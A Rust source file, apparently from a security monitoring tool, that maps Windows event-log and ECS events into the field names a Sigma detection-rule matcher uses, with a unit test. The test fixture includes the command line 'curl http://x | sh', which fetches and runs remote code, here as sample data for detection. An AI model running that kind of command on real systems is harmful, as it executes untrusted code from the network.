//! Watchpost's own events (ECS field names) as the Sigma matcher sees them.
//!
//! An event whose `raw` record is an EVTX record rendered as JSON is flattened exactly as
//! `hunt` flattens EVTX files; a Winlogbeat-style record (`winlog.channel`,
//! `winlog.event_id`, `winlog.event_data`) is routed by its channel and event id. Every
//! typed ECS field is also offered under its Sigma name (`process.command_line` as
//! `CommandLine`, through the one table in `watchpost_core::fields`) and under its ECS
//! name, so rules written either way match.

use crate::flatten::{flatten_evtx_json, scalar};
use serde_json::Value;
use watchpost_core::Event;
use watchpost_core::fields::SIGMA_TO_ECS;
use watchpost_sigma::FlatEvent;

/// The matcher's view of `event`.
pub fn flatten_event(event: &Event) -> FlatEvent {
    let mut flat = match flatten_evtx_json(&event.raw) {
        Some((flat, ..)) => flat,
        None => winlogbeat(&event.raw).unwrap_or_else(|| own_source(event)),
    };
    for (sigma, ecs) in SIGMA_TO_ECS {
        if flat.get(sigma).is_none()
            && let Some(value) = event.field(ecs)
        {
            flat.push(sigma, &value.to_string());
        }
    }
    for (_, ecs) in SIGMA_TO_ECS {
        if let Some(value) = event.field(ecs) {
            flat.push(ecs, &value.to_string());
        }
    }
    if let Some(message) = &event.message {
        flat.push("message", message);
    }
    flat
}

/// Watchpost's own host events are routed to the rules for their log source.
fn own_source(event: &Event) -> FlatEvent {
    let is = |category: &str| event.event.category.iter().any(|c| c == category);
    if is("process") && event.event.action.as_deref() == Some("exec") {
        FlatEvent::from_source(watchpost_sigma::sources::LINUX_PROCESS_CREATION)
    } else {
        FlatEvent::default()
    }
}

fn winlogbeat(raw: &Value) -> Option<FlatEvent> {
    let winlog = raw.get("winlog")?;
    let channel = winlog.get("channel").and_then(scalar)?;
    let event_id: u32 = winlog.get("event_id").and_then(scalar)?.parse().ok()?;
    let mut flat = FlatEvent::windows(&channel, event_id);
    if let Some(Value::Object(data)) = winlog.get("event_data") {
        for (k, v) in data {
            if let Some(s) = scalar(v) {
                flat.push(k, &s);
            }
        }
    }
    if let Some(provider) = winlog.get("provider_name").and_then(scalar) {
        flat.push("Provider_Name", &provider);
    }
    Some(flat)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ecs_fields_appear_under_sigma_and_ecs_names() {
        let event = Event::from_json(serde_json::json!({
            "process": {"command_line": "curl http://x | sh", "executable": "/usr/bin/curl"},
            "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1,
                       "event_data": {"OriginalFileName": "curl.exe"}}
        }))
        .unwrap();
        let flat = flatten_event(&event);
        assert_eq!(
            flat.channel.as_deref(),
            Some("Microsoft-Windows-Sysmon/Operational")
        );
        assert_eq!(flat.event_id, Some(1));
        assert_eq!(flat.get("CommandLine").unwrap().0, "curl http://x | sh");
        assert_eq!(flat.get("process.executable").unwrap().0, "/usr/bin/curl");
        assert_eq!(flat.get("OriginalFileName").unwrap().0, "curl.exe");
        let plain =
            flatten_event(&Event::from_json(serde_json::json!({"message": "hello"})).unwrap());
        assert_eq!(plain.channel, None);
        assert_eq!(plain.get("message").unwrap().0, "hello");
    }
}
